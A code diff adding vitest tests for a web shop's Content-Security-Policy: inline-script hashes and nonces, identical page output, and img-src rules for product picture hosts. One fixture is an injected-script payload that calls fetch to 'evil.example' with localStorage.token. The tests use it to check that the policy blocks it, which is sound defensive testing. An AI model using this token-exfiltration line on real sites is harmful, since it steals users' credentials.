@@ -7,6 +7,14 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import { addPageRoutes } from './render-pages'
 
 const INLINE = 'window.page = 1'
+const SMUGGLED = 'fetch("//evil.example/" + localStorage.token)'
+/** What a review could hold if a page showed it unescaped, with guesses at the mark of our own scripts. */
+const INJECTED = [
+  `<script>${SMUGGLED}</script>`,
+  `<script nonce="">${SMUGGLED}</script>`,
+  `<script nonce="guess">${SMUGGLED}</script>`,
+]
+let pictureHosts: string[] = []
 const asked: Request[] = []
 
 let app: FastifyInstance
@@ -16,11 +24,12 @@ beforeAll(async () => {
   addPageRoutes(app, {
     renderer: () =>
       Promise.resolve({
-        render: async (request, { send }) => {
+        render: async (request, { send, scriptMark }) => {
           asked.push(request)
           const { body } = await send({ method: 'GET', url: '/api/leagues' })
-          const scripts = `<script>${INLINE}</script><script type="module" src="/assets/page.js"></script>`
-          return new Response(`<p>${JSON.stringify(body)}</p>${scripts}`, {
+          const ours = `nonce="${scriptMark}"`
+          const scripts = `<script ${ours}>${INLINE}</script><script ${ours} type="module" src="/assets/page.js"></script>`
+          return new Response(`<p>${JSON.stringify(body)}${INJECTED.join('')}</p>${scripts}`, {
             status: 203,
             headers: { 'content-type': 'text/html' },
           })
@@ -30,6 +39,7 @@ beforeAll(async () => {
     site: { name: 'Test shop', url: 'https://shop.example' },
     contentSecurityPolicy: true,
     takesStripe: false,
+    pictureHosts: () => Promise.resolve(pictureHosts),
   })
   await app.listen({ host: '127.0.0.1', port: 0 })
 })
@@ -50,6 +60,37 @@ test('security case 27: its policy allows its own inline scripts and no others',
   expect(policy).toContain(`script-src 'self' 'sha256-${hash}';`)
   expect(policy).not.toContain('unsafe-inline')
 })
+
+test('security case 27: a script that got into the page with what it shows is not allowed', async () => {
+  const { headers, body } = await app.inject('/leagues')
+
+  expect(body).toContain(SMUGGLED)
+  const hash = createHash('sha256').update(SMUGGLED).digest('base64')
+  expect(headers['content-security-policy']).not.toContain(hash)
+})
+
+test('a page is the same for everybody: nothing in it tells what its scripts were known by', async () => {
+  const [one, other] = [await app.inject('/leagues'), await app.inject('/leagues')]
+
+  expect(one.body).toBe(other.body)
+  expect(one.headers['content-security-policy']).toBe(other.headers['content-security-policy'])
+  expect(one.body).toContain(`<script>${INLINE}</script>`)
+})
+
+test.each([
+  ['/leagues', [], "img-src 'self' data: blob:;"],
+  ['/leagues', ['https://cdn.example'], "img-src 'self' data: blob: https://cdn.example;"],
+  ['/leagues', Array.from({ length: 51 }, (_, at) => `https://${at}.example`), "img-src 'self' data: blob: https:;"],
+  ['/admin/products', [], "img-src 'self' data: blob: https:;"],
+  ['/administrator', [], "img-src 'self' data: blob:;"],
+])(
+  'security case 27: %s shows pictures of the shop and of the hosts that products name',
+  async (path, hosts, sources) => {
+    pictureHosts = hosts
+    expect((await app.inject(path)).headers['content-security-policy']).toContain(sources)
+    pictureHosts = []
+  },
+)
 
 test.each([
   ['/products?page=2', '/products?page=2'],
